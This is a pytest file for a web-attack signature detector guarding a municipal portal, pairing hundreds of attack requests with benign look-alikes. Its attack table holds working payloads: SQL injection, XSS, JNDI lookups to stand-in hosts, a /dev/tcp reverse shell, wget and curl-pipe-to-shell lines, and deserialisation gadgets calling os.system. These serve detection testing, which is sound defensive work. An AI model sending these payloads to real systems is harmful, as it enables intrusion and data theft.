from __future__ import annotations

import base64
import gzip
import json
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from citywatch.detect import DetectorRunner
from citywatch.detect.portal.catalog import CLASSES, RULES
from citywatch.detect.portal.signatures import WebAttackConfig, WebAttackSignatures, snippet
from citywatch.detect.portal.urls import ssrf
from citywatch.enrich import Enricher
from citywatch.model import Detection, Event, HttpRequest

T0 = 1_773_475_200.0
DETECTOR = WebAttackSignatures()


def _event(
    uri: str = "/",
    *,
    method: str = "GET",
    body: str = "",
    headers: tuple[tuple[str, str], ...] = (),
    version: str = "HTTP/1.1",
    user_agent: str | None = None,
) -> Event:
    if headers and not any(name.lower() == "host" for name, _ in headers):
        headers = (("Host", "portal.aldmere.city"), *headers)
    req = HttpRequest(
        method=method, uri=uri, version=version, headers=headers, body=body, user_agent=user_agent
    )
    return Event(id="r-1", timestamp=T0, dataset="portal.http", payload=req)


def q(value: str, name: str = "q") -> Event:
    """``value`` URL-encoded in the query string."""
    return _event(f"/search?{quote(name)}={quote(value, safe='')}&page=1")


def raw(query: str) -> Event:
    """A query string sent as it is (the attacker's own encoding)."""
    return _event(f"/search?{query}")


def form(value: str, name: str = "text") -> Event:
    body = f"category=roads&{name}={quote(value, safe='')}"
    ctype = (("Content-Type", "application/x-www-form-urlencoded"),)
    return _event("/complaints", method="POST", body=body, headers=ctype)


def api(doc: object) -> Event:
    ctype = (("Content-Type", "application/json"),)
    return _event("/api/v1/search", method="POST", body=json.dumps(doc), headers=ctype)


def header(name: str, value: str) -> Event:
    return _event("/", headers=((name, value),))


def xml(body: str) -> Event:
    return _event("/api/soap", method="POST", body=body, headers=(("Content-Type", "text/xml"),))


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _upload(filename: str) -> Event:
    """A photo uploaded with a complaint, its file name quoted."""
    body = (
        '--b\r\nContent-Disposition: form-data; name="photo"; '
        f'filename="{filename}"\r\nContent-Type: image/jpeg\r\n\r\nJFIF\r\n--b--\r\n'
    )
    ctype = (("Content-Type", "multipart/form-data; boundary=b"),)
    return _event("/complaints", method="POST", body=body, headers=ctype)


def _classes(event: Event, detector: WebAttackSignatures = DETECTOR) -> set[str]:
    return {h.attack_class for h in detector.inspect(event)}


ATTACKS: dict[str, list[Event]] = {
    "sqli": [
        q("admin')) OR (('x')=('x", "username"),  # parentheses around the tautology
        q("1 AND 'A' NOT BETWEEN 0 AND 'A'"),  # sqlmap's between tamper
        q("1--nVNaVoPYeva\nAND--ngNvzqu\n9227=9227"),  # sqlmap's space2dash
        q("' OR 1=1-- -"),
        q("3 UNION ALL SELECT NULL,NULL,NULL-- -"),
        raw("q=%2527%2520OR%2520%25271%2527%253D%25271"),  # double encoded
        q("1 UN/**/ION SEL/**/ECT password FROM users"),  # comments inside keywords
        q("-1 ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2"),  # fullwidth
        raw("id=%u0031%u0027%u0020or%u0020%u0031%u003d%u0031--"),  # %u form
        q("1 AnD SlEeP(5)"),
        q("admin'--", "username"),
        q("1;DROP TABLE users"),
        q("1 WAITFOR DELAY '0:0:5'--"),
        q("3 AND (SELECT 4411 FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM x)a)"),
        form("1250.00' AND SLEEP(5) AND 'tYxW'='tYxW", "amount"),
        api({"filter": {"district": "3) AND 4411=4411 AND (7302=7302"}}),
        header("User-Agent", "Mozilla/5.0' or 1=1#"),
    ],
    "xss": [
        form("<style>@import'//evil.example/x.css';</style>"),
        form("<link rel=stylesheet href=//evil.example/x.css>"),
        q("<script>alert(1)</script>"),
        q('"><svg/onload=alert(document.domain)>'),
        q("<img src=x onerror=alert(1)>"),
        q("&lt;script&gt;alert(1)&lt;/script&gt;"),  # entities
        raw("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),  # double encoded
        q("<ScRiPt>prompt(1)</sCrIpT>"),
        q("＜script＞alert(1)＜/script＞"),  # fullwidth
        q("java\tscript:alert(1)", "next"),
        q('" onmouseover="alert(1)'),
        q("'-alert(1)-'"),
        q("<iframe src=//evil.example>"),
        form("<body onload=alert('x')>"),
    ],
    "traversal": [
        q("..∕..∕..∕etc∕passwd", "file"),  # division slashes
        q("////etc//passwd", "file"),
        q("../../../../etc/passwd", "file"),
        raw("file=..%2f..%2f..%2fetc%2fpasswd"),
        raw("file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),  # double encoded
        q("..\\..\\..\\windows\\win.ini", "file"),
        raw("file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),  # overlong UTF-8
        q("....//....//....//etc/passwd", "file"),
        q("php://filter/convert.base64-encode/resource=index.php", "page"),
        q("/etc/shadow", "file"),
        q("file:///etc/hosts", "doc"),
        _event("/static/..%2f..%2f..%2f..%2fetc%2fpasswd"),
        _event("/static/../../../etc/passwd"),
    ],
    "rfi": [
        q("https://evil.example/tpl/receipt.twig", "template"),
        q("http://evil.example/shell.jpg", "page"),
        q("ftp://evil.example/pub/inc.php", "base_dir"),
        q("\\\\evil.example@SSL\\DavWWWRoot\\shell.php", "file"),
        q("http://198.51.100.7/shell.txt?", "page"),
        q("https://evil.example/c99.txt?", "page"),
        q("http://evil.example/shell.php", "include"),
        q("expect://id", "page"),
        q("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", "page"),
        q("//evil.example/theme/functions.php", "theme"),
        q("phar://./uploads/avatar.jpg/shell.php", "inc"),
        q("\\\\evil.example\\share\\x.php", "file"),
        q("http://45.33.32.156/x", "page"),
        q("HTTP://EVIL.EXAMPLE/R57.TXT?", "page"),
    ],
    "cmdi": [
        q("pdf;/???/c?t /???/p??s??"),
        q("ios;a=i;b=d;$a$b"),
        q("$(rev<<<'di')"),
        q("Ilica || whoami #", "street"),
        _upload("pothole.jpg;curl 198.51.100.7|sh;.jpg"),
        q("127.0.0.1; cat /etc/passwd", "host"),
        q("x|id"),
        q("$(whoami)"),
        q("`uname -a`"),
        q("a;c'a't${IFS}/etc/passwd"),
        q("& ping -c 3 10.0.0.1"),
        q("; wget http://evil.example/x.sh -O /tmp/x"),
        q("1; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        q("||nslookup evil.example"),
        raw("q=1%0acat%20/etc/passwd"),
        header("User-Agent", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"),
        q("a; /usr/bin/i\\d"),
    ],
    "ssrf": [
        q("http://169.254.169.254.nip.io.evil.example/latest/meta-data/", "url"),
        q("http://0.0.0.0.nip.io/admin", "url"),
        q("http://169.254.169.254/latest/meta-data/", "url"),
        q("http://metadata.google.internal/computeMetadata/v1/", "webhook"),
        q("http://127.0.0.1:8080/admin", "url"),
        q("http://2130706433/", "url"),
        q("http://0x7f000001/", "url"),
        q("http://[::ffff:127.0.0.1]/", "url"),
        q("gopher://127.0.0.1:6379/_SET", "url"),
        q("http://localhost/server-status", "feed"),
        q("http://017700000001/", "image"),
        q("http://portal.aldmere.city@10.0.0.5/", "url"),
        q("127.0.0.1", "url"),
        q("localhost:6379", "callback"),
    ],
    "xxe": [
        xml(
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        ),
        xml('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>'),
        xml(
            '<x xmlns:xi="http://www.w3.org/2001/XInclude">'
            '<xi:include parse="text" href="file:///etc/passwd"/></x>'
        ),
        xml('<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo/>'),
        xml(
            '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
            "<l>&c;</l>"
        ),
        q('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xml"),
        form('<!doctype a [<!entity  x   public "x" "http://evil.example/x">]>', "data"),
        xml('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % e SYSTEM "php://filter/x">%e;]>'),
    ],
    "ssti": [
        q("{% print(7*7) %}"),
        q("{{ settings.SECRET_KEY }}"),
        q('${self.module.cache.util.os.system("id")}'),
        q("<%import os%>${os.popen('id').read()}"),
        q("#{root.process.mainModule.require('child_process').spawnSync('id').stdout}"),
        q("{$smarty.version}"),
        q('${pageContext.request.getSession().setAttribute("admin",true)}'),
        q("{{7*7}}"),
        q("${7*7}"),
        q("{{''.__class__.__mro__[1].__subclasses__()}}"),
        q("{{config.items()}}"),
        q("<%= 7*7 %>"),
        q("#{7*7}"),
        q("${T(java.lang.Runtime).getRuntime().exec('id')}"),
        q("{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}"),
        q('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
        raw("q=%7B%7B7%2A%277%27%7D%7D"),
    ],
    "jndi": [
        header("Authorization", "Basic " + _b64(b"${jndi:ldap://evil.example/basic}:x")),
        header("User-Agent", "${jndi:ldap://evil.example/a}"),
        header("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}"),
        q("${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}"),
        q("${j${k8s:k5:-ND}i:ldap://x.example/a}"),
        raw("q=%24%7Bjndi%3Adns%3A%2F%2Fx.example%7D"),
        header("X-Forwarded-For", "${env:AWS_SECRET_ACCESS_KEY}"),
        q("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}"),
        header("Referer", "${jNdI:LdAp://x.example/a}"),
        header("X-Whatever", "${${upper:j}ndi:ldap://x.example/a}"),
    ],
    "deserialisation": [
        api({"__proto__": {"isAdmin": True}}),
        raw("constructor[prototype][isAdmin]=true"),
        raw("__proto__[isAdmin]=true"),
        header("Cookie", "rememberMe=" + _b64(bytes(range(96)))),  # Shiro
        header("Cookie", "session=" + _b64(gzip.compress(bytes.fromhex("aced0005737200")))),
        q(_b64(b"cos\nsystem\n(S'id'\ntR.")),  # a protocol 0 pickle
        q(_b64(b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")),
        api({"state": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}}),
        api({"rce": {"__js_function": "function(){require('child_process').execSync('id')}"}}),
        q("!<tag:yaml.org,2002:python/object/apply:os.system> ['id']"),
        xml('<ObjectDataProvider MethodName="Start" ObjectType="{x:Type Diag:Process}"/>'),
        q('O:8:"stdClass":1:{s:1:"a";s:1:"b";}', "data"),
        q("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg", "state"),
        q("aced0005737200116a6176612e7574696c2e486173684d6170", "state"),
        q('a:2:{i:0;s:1:"a";i:1;O:4:"Evil":0:{}}', "data"),
        api({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}),
        api({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x/a"}),
        form("!!python/object/apply:os.system ['id']", "config"),
        q("gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "session"),
        header("Cookie", "prefs=O%3A4%3A%22User%22%3A1%3A%7Bs%3A4%3A%22role%22%3B%7D"),
        q("/wEPDwUKLTk0ODYzNjY1Mg9kFgJmD2QWAgIDD2QWAgIBDxYCHgdWaXNpYmxlaGRk", "__VIEWSTATE"),
        q("phar:///var/www/uploads/avatar.jpg/x.txt", "file"),
        api(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://x.example/a"}]),
        api({"username": "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}),
        header("Cookie", "_session=BAhbB2MVR2VtOjpTcGVjRmV0Y2hlcmMTR2VtOjpJbnN0YWxsZXJV"),
    ],
    "nosqli": [
        q("admin',$where:'1==1", "username"),
        q("admin'; db.users.drop(); var a='", "username"),
        api({"filter": [{"$lookup": {"from": "users", "as": "u"}}]}),
        raw("username=admin&password[$ne]=x"),
        api({"username": "admin", "password": {"$ne": None}}),
        api({"username": {"$regex": "^adm"}, "password": {"$gt": ""}}),
        raw("user[$where]=sleep(5000)"),
        q('{"$gt": ""}', "password"),
        q("' || '1'=='1", "user"),
        q("'; return true; var a='", "user"),
        api({"$where": "this.password.match(/.*/)"}),
    ],
    "protocol": [
        _upload("shell.php"),
        _upload("avatar.jpg.php"),
        _upload(".htaccess"),
        _upload("cmd.jsp"),
        header("X-Original-URL", "/admin"),
        header("Range", "bytes=0-18446744073709551615"),  # MS15-034
        _event("/alerts%0d%0aSet-Cookie:%20aldsid=evil"),
        q("\r\nLocation: https://evil.example", "next"),
        _event("/static/shell.jsp", method="PUT", body="<% Runtime.getRuntime().exec(c); %>"),
        _event("/up/x.jsp", method="PUT", body="ok", headers=(("Content-Type", "text/plain"),)),
        _event("/", method="TRACK"),
        _event("/", method="DEBUG"),
        _event("/", method="TRACE"),
        _event("/", headers=(("Content-Length", "5"), ("Transfer-Encoding", "chunked"))),
        _event("/", headers=(("Content-Length", "5"), ("Content-Length", "7"))),
        _event("/", headers=(("Transfer-Encoding", "chunked, identity"),)),
        _event("/", version="HTTP/7.3"),
        raw("q=%c0%af"),
        _event("/", headers=(("X-Test", "a\r\nSet-Cookie: admin=1"),)),
        raw("file=report.pdf%00.jpg"),
        raw("next=%0d%0aSet-Cookie:%20aldsid=attacker"),
        _event("http://169.254.169.254/latest/meta-data/", headers=(("Host", "p"),)),
        _event("/", headers=(("Transfer-Encoding ", "chunked"), ("Content-Length", "4"))),
        _event("/", headers=(("Host", "a"), ("Host", "evil.example"))),
    ],
    "scanner": [
        header("User-Agent", "Mozilla/5.0 SF/2.10b"),  # skipfish
        header("User-Agent", "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv)"),
        header("User-Agent", "Hello, World"),  # Mozi
        header("User-Agent", "ModatScanner/1.1"),
        header("X-WVS-ID", "Acunetix-Deepscan/186"),
        _event("/debug/pprof/"),
        _event("/GponForm/diag_Form?images/"),
        _event("/autodiscover/autodiscover.json?@zdi/Powershell"),
        _event("/Telerik.Web.UI.WebResource.axd?type=rau"),
        header("User-Agent", "sqlmap/1.8.11#stable (https://sqlmap.org)"),
        header("User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000042)"),
        header("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
        header("User-Agent", "gobuster/3.6"),
        header("User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        _event("/.env"),
        _event("/.git/config"),
        _event("/wp-login.php"),
        _event("/phpmyadmin/"),
        _event("/server-status"),
        _event("/backup.tar.gz"),
        _event("/actuator/env"),
        _event("/.aws/credentials"),
        _event("/db.sql"),
        _event("/config.php.bak"),
    ],
}

BENIGN: dict[str, list[Event]] = {
    "sqli": [
        q("O'Brien", "full_name"),
        q("O'Brien or Õun", "full_name"),
        q("select a district"),
        q("drop-off point"),
        form("Cars park on the cycle lane every morning. 1=1 is obvious to anyone."),
        form("Noise from the bar 'Kod Đure' until 3am; OR could the police just check once?"),
        form("Bus 14 skipped our stop again -- third time; please delete my complaint #4410."),
        form("I'd like to select the Friday slot; the Sunday one doesn't work for us."),
        form("Union Street crossing: the light is green for only 6 s. Select longer please."),
        q("Rue de l'Église 5", "street"),
        form("Home office expenses 50% (part-time).", "note"),
        api({"query": "order by date", "sort": "-created", "page": 2}),
    ],
    "xss": [
        form("I like the <style> of the new benches"),
        q("<3"),
        form("Thank you for the new benches in Riverside park <3 <3"),
        form("Graffiti at Šoštarićeva 12 -- someone sprayed a <script> tag, ironic for a dev."),
        q("a < b and c > d"),
        form("JavaScript: off in my browser, the map does not load"),
        form("Please confirm (tomorrow) the pickup slot"),
        q("Tom & Jerry"),
        q("alert@aldmere.city", "contact"),
        q("document.pdf", "file"),
    ],
    "traversal": [
        q("1∕2 cup of flour"),
        form("Correction of my 2024 return; see letter ref. 2025/118."),
        q("/documents/2023/budget-summary.pdf", "next"),
        q("a..b"),
        q("Wait... what?"),
        q("etc. etc."),
        q("https://aldmere.city/etc/news", "next"),
        form("Passwords must be 8+ characters"),
        q("../images/logo.png", "src"),  # a single ../ is a weak (level 2) signal
    ],
    "rfi": [
        form("see https://news.example/article for details", "content"),
        q("https://aldmere.city/en/services", "next"),
        q("https://www.google.com/", "ref"),
        q("see http://example.com/page for details"),
        form("data: 2025 figures attached"),
        form("php is a language"),
        q("C:\\Users\\me\\doc.pdf", "file"),
        q("https://herald.aldmere.city/2026/03/13/tram-line-6/", "page"),
        header("Referer", "http://198.51.100.7/shell.txt?"),  # referrers are not included
    ],
    "cmdi": [
        form("What? /a?b/ is not a path I know"),
        q("Tom & Jerry; cats & dogs"),
        q("Fish | chips"),
        form("Cats; cat litter everywhere"),
        form("I can't sleep; it's 3am"),
        q("Ping me at 5"),
        q("id", "sort"),
        form("The hall has an echo; echo chamber indeed"),
        q("ls", "q"),
        form("Bins missed again & again; find someone to fix it"),
    ],
    "ssrf": [
        q("https://app-1.2.3.4-beta.example/notes", "url"),  # a version, not an address
        q("http://198.51.100.7/report.pdf", "url"),  # a documentation range: nothing internal
        q("https://portal.aldmere.city/account", "return_url"),
        q("https://aldmere.city/", "url"),
        q("portal.aldmere.city", "host"),
        q("/account", "next"),
        q("12345", "target"),
        q("0.5", "image"),
        q("jQuery123", "callback"),
        q("newsletter", "source"),
        q("192.168.1.1 is my router", "text"),
    ],
    "xxe": [
        xml('<?xml version="1.0"?><report><text>Pothole</text></report>'),
        q("<!DOCTYPE html>"),
        q("<!-- comment -->"),
        form("The entity responsible is the SYSTEM administrator"),
        xml('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "xhtml1-strict.dtd">'),
        xml("<a><b>&amp;</b></a>"),
        form("<!ENTITY> is XML jargon"),
        q("<x xmlns='urn:a'/>"),
    ],
    "ssti": [
        form("The price is ${5} per bag, #{tag} for the event"),
        q("{{name}}"),
        q("Hello {name}"),
        form("Price: $5 * 2 for two"),
        q("7*7=49"),
        q("{{ }}"),
        q("#{hashtag}"),
        q("a__b"),
        q("__utma=1"),
    ],
    "jndi": [
        q("${price}"),
        q("$100"),
        q("{jndi}"),
        form("jndi is a Java API"),
        q("$ {x}"),
        q("${HOME}"),
        q("${}"),
        q("$${a}"),
    ],
    "deserialisation": [
        raw("prototype=2&constructor=ACME+Builders"),
        form("the constructor of the prototype bridge"),
        header("Cookie", "rememberMe=true; aldsid=gAJx7sKq9LmN2pQ4wXyZ0a"),
        q("H4sI is how a gzip stream starts in base64"),
        form("O:8 is a train"),
        q("a:b:c"),
        form("Office hours 9:00-17:00"),
        q("rO0AB"),
        q("4FkePiZaSCDcjE8xr0i_wgX9", "aldsid"),
        q("Ratio 1:2"),
        q('time: "12:30"'),
        q("c:\\temp", "dir"),
    ],
    "nosqli": [
        form("the db.table is fine, db.users too"),
        q("$5 off"),
        q("price in $"),
        q("a==b"),
        form("this.is a sentence"),
        form("return to sender"),
        q("$ne"),
        raw("tags[]=a&tags[]=b"),
        api({"price": {"currency": "EUR", "amount": 5}}),
    ],
    "protocol": [
        _upload("pothole.php.jpg"),
        _upload("budget-2025.pdf"),
        _event(
            "/api/v1/me", method="PUT", body="{}", headers=(("Content-Type", "application/json"),)
        ),
        _event("/", method="HEAD"),
        _event("/", method="OPTIONS", version="HTTP/2.0"),
        _event("/", version="HTTP/1.0"),
        _event("/", headers=(("Transfer-Encoding", "chunked"),)),
        _event("/", headers=(("Content-Length", "12"),)),
        _event("/", headers=(("accept-language", "et,en;q=0.8"),)),
        form("Povrat poreza – uzdržavani član obitelji.", "note"),
        raw("q=50%25%20off"),
        form("Dear city,\r\nLocation: Ilica 12, by the tram stop.\r\nThanks"),
    ],
    "scanner": [
        header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"),
        header(
            "User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
        ),
        header("User-Agent", "curl/8.5.0"),
        header("User-Agent", "python-requests/2.32.3"),
        header("User-Agent", "AldmereCity/4.0.2 (Android 11; SM-G991B; build 4020) okhttp/4.12.0"),
        _event("/robots.txt"),
        _event("/.well-known/security.txt"),
        _event("/sitemap.xml"),
        _event("/static/js/app.5c2d9e.js"),
        _event("/documents/2023/budget-summary.pdf"),
        _event("/portal/login.aspx"),
        _event("/traffic/incidents.php"),
        _event("/news/2026/03/tram-line-6-works-extended"),
    ],
}


def _cases(table: dict[str, list[Event]]) -> list[tuple[str, Event]]:
    return [(cls, event) for cls, events in table.items() for event in events]


def test_every_class_has_enough_cases() -> None:
    assert set(ATTACKS) == set(BENIGN) == set(CLASSES)
    for cls in CLASSES:
        assert len(ATTACKS[cls]) >= 8, cls
        assert len(BENIGN[cls]) >= 8, cls


@pytest.mark.parametrize(("cls", "event"), _cases(ATTACKS))
def test_attacks_hit_their_class(cls: str, event: Event) -> None:
    hits = DETECTOR.inspect(event)
    assert cls in {h.attack_class for h in hits}, (event.payload, hits)


@pytest.mark.parametrize(("cls", "event"), _cases(BENIGN))
def test_benign_look_alikes_do_not_hit(cls: str, event: Event) -> None:
    assert DETECTOR.inspect(event) == [], event.payload


@pytest.mark.parametrize(
    "event",
    [
        header("X-Api-Version", "${jndi:ldap://198.51.100.9:1389/Exploit}"),
        q("${jndi:rmi://198.51.100.9/a}"),
        form("${jndi:ldap://x.example/a}", name="url"),
    ],
)
def test_a_jndi_lookup_is_log4shell_only_not_also_ssrf(event: Event) -> None:
    # One Log4Shell request was two detections: Log4Shell, and "SSRF: gopher/dict/ldap URL".
    assert {h.attack_class for h in DETECTOR.inspect(event)} == {"jndi"}


def test_a_snippet_keeps_the_case_it_was_sent_in() -> None:
    # The snippets were casefolded: a Log4Shell class "Exploit" read "exploit", a base64
    # payload could no longer be decoded, sqlmap's marker 'qVzR' read 'qvzr'.
    jndi = DETECTOR.inspect(header("X-Api-Version", "${jndi:ldap://198.51.100.9:1389/Exploit}"))
    assert [h.snippet for h in jndi] == ["${jndi:ldap://198.51.100.9:1389/Exploit}"]
    (sqli,) = DETECTOR.inspect(q("1' AND 'qVzR'='qVzR"))
    assert sqli.snippet == "1' AND 'qVzR'='qVzR"
    (xss,) = DETECTOR.inspect(q("<ScRiPt>alert(1)</sCrIpT>"))
    assert xss.snippet == "<ScRiPt>alert(1)</sCrIpT>"


def test_hit_fields() -> None:
    [hit] = DETECTOR.inspect(q("1 UNION SELECT password FROM users", "district"))
    assert hit.attack_class == "sqli"
    assert hit.rule_id == "web.sqli.union"
    assert hit.technique == "T1190"
    assert hit.location == "param:district"
    assert hit.snippet == "1 UNION SELECT password FROM users"
    assert hit.severity == RULES["sqli.union"].severity
    [agent] = DETECTOR.inspect(header("User-Agent", "sqlmap/1.8"))
    assert (agent.location, agent.technique, agent.snippet) == (
        "header:User-Agent",
        "T1595.002",
        "sqlmap",
    )
    [probe] = DETECTOR.inspect(_event("/.git/HEAD"))
    assert (probe.location, probe.technique) == ("path", "T1595.003")


def test_snippets_are_decoded_short_and_escaped() -> None:
    [hit] = DETECTOR.inspect(raw("q=%3Cscript%3Ealert(1)%3C/script%3E"))
    assert hit.snippet.startswith("<script>")
    long = "' OR 1=1 -- " + "x" * 500
    [sqli] = DETECTOR.inspect(q(long))
    assert len(sqli.snippet) <= 120
    assert snippet("a\x00b\r\n") == "a\\x00b\\x0d\\x0a"


def test_one_hit_per_class_per_request() -> None:
    event = raw("a=1%20UNION%20SELECT%201&b=2%20UNION%20SELECT%202&c=<script>alert(1)</script>")
    hits = DETECTOR.inspect(event)
    assert sorted(h.attack_class for h in hits) == ["sqli", "xss"]


def test_sensitivity_adds_weak_rules() -> None:
    single = q("../images/logo.png", "src")
    assert _classes(single) == set()
    assert _classes(single, WebAttackSignatures(WebAttackConfig(sensitivity=2))) == {"traversal"}
    offsite = q("https://other.example/", "ref")
    assert _classes(offsite, WebAttackSignatures(WebAttackConfig(sensitivity=2))) == set()
    assert _classes(offsite, WebAttackSignatures(WebAttackConfig(sensitivity=3))) == {"rfi"}


def test_disabled_classes_and_site_settings() -> None:
    detector = WebAttackSignatures(WebAttackConfig(disabled=("sqli", "scanner")))
    assert _classes(q("' OR 1=1-- -"), detector) == set()
    assert _classes(header("User-Agent", "sqlmap/1.8"), detector) == set()
    assert _classes(q("<script>alert(1)</script>"), detector) == {"xss"}
    wordpress = WebAttackSignatures(WebAttackConfig(wordpress=True))
    assert _classes(_event("/wp-login.php"), wordpress) == set()
    aspnet = WebAttackSignatures(WebAttackConfig(aspnet=True))
    assert _classes(q("/wEPDwUKLTk0ODYzNjY1Mg9k", "__VIEWSTATE"), aspnet) == set()
    with pytest.raises(ValidationError, match="unknown attack classes"):
        WebAttackConfig(disabled=("sqlinjection",))


def test_access_log_requests_are_inspected() -> None:
    event = Event(
        id="log-1",
        timestamp=T0,
        dataset="portal.access",
        payload=HttpRequest(
            method="GET",
            uri="/index.php?page=../../../../etc/passwd",
            user_agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
            status=404,
        ),
    )
    assert _classes(event) == {"traversal", "scanner"}


def test_non_http_events_are_ignored() -> None:
    assert DETECTOR.inspect(Event(id="x", timestamp=T0, dataset="portal.http")) == []


def test_runner_merges_ten_thousand_attacks_from_three_clients(enricher: Enricher) -> None:
    clients = ("198.51.100.7", "203.0.113.9", "192.0.2.44")
    events = []
    for i in range(10_000):
        payload = f"{i} UNION ALL SELECT NULL,{i % 7},NULL-- -"
        req = HttpRequest(method="GET", uri=f"/traffic/incidents?district={quote(payload)}")
        raw_event = Event(
            id=f"req-{i}",
            timestamp=T0 + i * 0.05,
            dataset="portal.http",
            source_ip=clients[i % 3],
            payload=req,
        )
        events.append(enricher(raw_event))
    errors: list[Exception] = []
    runner = DetectorRunner(WebAttackSignatures(), lambda n, e, x: errors.append(x))
    out: list[Detection] = []
    for event in events:
        runner.process(event, out)
    runner.flush(out)
    assert not errors
    final = {d.id: d for d in out}
    assert len(final) == 3
    evidence = [eid for d in final.values() for eid in d.evidence]
    assert len(evidence) == 10_000
    assert set(evidence) == {e.id for e in events}
    assert {d.entity["source.ip"] for d in final.values()} == set(clients)
    assert all(d.attributes["portal"]["class"] == "sqli" for d in final.values())
    assert all("attack.T1190" in d.tags for d in final.values())


@settings(max_examples=300, deadline=None)
@given(
    uri=st.text(max_size=120).map(lambda s: "/" + s),
    body=st.text(max_size=200),
    agent=st.text(max_size=80),
    ctype=st.sampled_from(["", "application/json", "text/xml", "multipart/form-data; boundary=x"]),
)
def test_arbitrary_requests_never_fail(uri: str, body: str, agent: str, ctype: str) -> None:
    req = HttpRequest(
        method="POST", uri=uri, headers=(("Content-Type", ctype), ("User-Agent", agent)), body=body
    )
    hits = DETECTOR.inspect(Event(id="h", timestamp=T0, dataset="portal.http", payload=req))
    assert len({h.attack_class for h in hits}) == len(hits)
    assert all(h.rule_id.removeprefix("web.") in RULES for h in hits)
    assert all(len(h.snippet) <= 120 and h.snippet.isprintable() for h in hits)


def test_site_hosts_flag_foreign_host_headers() -> None:
    detector = WebAttackSignatures(WebAttackConfig(site_hosts=("portal.aldmere.city",)))
    own = _event("/", headers=(("Host", "portal.aldmere.city:443"),))
    assert _classes(own, detector) == set()
    foreign = _event("/password/reset", headers=(("Host", "evil.example"),))
    forwarded = _event("/", headers=(("X-Forwarded-Host", "evil.example"),))
    assert _classes(foreign, detector) == _classes(forwarded, detector) == {"protocol"}
    assert _classes(foreign) == set(), "without site_hosts no host is foreign"


def test_host_names_are_learned_from_several_clients_when_not_configured() -> None:
    detector = WebAttackSignatures()

    def learned(host: str, client: str) -> Event:
        request = HttpRequest(method="GET", uri="/", headers=(("Host", host),))
        return Event(
            id=f"l-{client}",
            timestamp=T0,
            dataset="portal.http",
            source_pseudonym=client,
            payload=request,
        )

    detector.learn(learned("evil.example", "one-client"))
    detector.learn(learned("evil.example", "one-client"))
    for client in ("a", "b"):
        detector.learn(learned("portal.aldmere.city", client))
    foreign = _event("/password/reset", headers=(("Host", "evil.example"),))
    assert _classes(foreign, detector) == set(), "two clients do not make a host the portal's"
    detector.learn(learned("Portal.Aldmere.City:443", "c"))
    assert _classes(foreign, detector) == {"protocol"}
    forwarded = _event("/", headers=(("X-Forwarded-Host", "evil.example"),))
    assert _classes(forwarded, detector) == {"protocol"}
    own = _event("/", headers=(("Host", "portal.aldmere.city"),))
    assert _classes(own, detector) == set()
    blob = detector.snapshot_model()
    assert blob is not None
    restored = WebAttackSignatures()
    restored.restore_model(blob)
    assert _classes(foreign, restored) == {"protocol"}
    configured = WebAttackSignatures(WebAttackConfig(site_hosts=("evil.example",)))
    configured.learn(learned("portal.aldmere.city", "a"))
    assert configured.snapshot_model() is None, "configured names are not learned over"


def _rules(event: Event, detector: WebAttackSignatures = DETECTOR) -> set[str]:
    return {h.rule_id.removeprefix("web.") for h in detector.inspect(event)}


def api_text(body: str) -> Event:
    ctype = (("Content-Type", "application/json"),)
    return _event("/api/v1/search", method="POST", body=body, headers=ctype)


def _multipart(fields: dict[str, str]) -> Event:
    body = "".join(
        f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    )
    ctype = (("Content-Type", "multipart/form-data; boundary=b"),)
    return _event("/", method="POST", body=body + "--b--\r\n", headers=ctype)


_SAML_XXE = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://45.134.26.77/s.dtd">%d;]>'
